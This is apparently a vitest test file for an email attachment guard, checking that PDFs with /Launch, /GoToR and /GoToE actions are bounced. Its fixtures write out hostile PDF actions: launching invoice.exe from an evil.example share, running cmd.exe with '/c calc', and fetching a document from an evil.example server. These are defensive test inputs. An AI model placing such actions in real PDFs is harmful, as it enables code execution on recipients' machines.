import { pdfObjects } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// A50-14: a PDF's /Launch action opens a file by its path (an executable on a share: the PDF twin of the LINK
// Package the guard refuses), a /GoToR or /GoToE another document, perhaps from a server. The guard listed a PDF's
// embedded files only. Acrobat asks before launching; the case is what the guard lets through unasked.
const stack = useLocalStack();
const kit = attackerKit(stack);
const SHARE = '(\\\\\\\\evil.example\\\\s\\\\invoice.exe)';
const pdf = (catalog: string, page = '', more: string[] = []) =>
  pdfObjects([
    { body: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>` },
    { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${page} >>` },
    ...more.map((body) => ({ body })),
  ]);
const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${action} >>`;
const verdict = async (file: Buffer) =>
  (await kit.inbound(attachedFile('Invoice.pdf', file, 'application/pdf')[0])).verdict;

describe('A50-14: PDF actions that open a file', () => {
  it('bounces an open action launching an executable on a share (/F and /Win /F)', async () => {
    expect(
      await verdict(
        pdf('/OpenAction 4 0 R', '', [`<< /S /Launch /F ${SHARE} /Win << /F ${SHARE} >> /NewWindow true >>`]),
      ),
    ).toBe('BOUNCE');
    expect(await verdict(pdf(`/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>`))).toBe(
      'BOUNCE',
    );
  });
  it("bounces a page's additional action and a link annotation launching through a file specification", async () => {
    expect(await verdict(pdf('', `/AA << /O << /S /Launch /F ${SHARE} >> >>`))).toBe('BOUNCE');
    const spec = `<< /Type /Filespec /F (report.pdf) /UF ${SHARE} >>`;
    expect(await verdict(pdf('', '/Annots [4 0 R]', [link(`<< /S /Launch /F ${spec} >>`)]))).toBe('BOUNCE');
  });
  it('bounces a GoToR and a GoToE to documents on a server', async () => {
    const remote = '<< /FS /URL /F (http://evil.example/doc.pdf) >>';
    expect(
      await verdict(pdf('', '/Annots [4 0 R]', [link(`<< /S /GoToR /F ${remote} /D [0 /Fit] >>`)])),
    ).toBe('BOUNCE');
    expect(await verdict(pdf(`/OpenAction << /S /GoToE /F ${remote} /T << /R /C /N (x) >> >>`))).toBe(
      'BOUNCE',
    );
  });
  it('(control) sends a PDF with a URI link and a go-to action', async () => {
    expect(
      await verdict(
        pdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>', '/Annots [4 0 R]', [
          link('<< /S /URI /URI (https://vendor.example/setup.exe) >>'),
        ]),
      ),
    ).toBe('DEFAULT');
  });
});
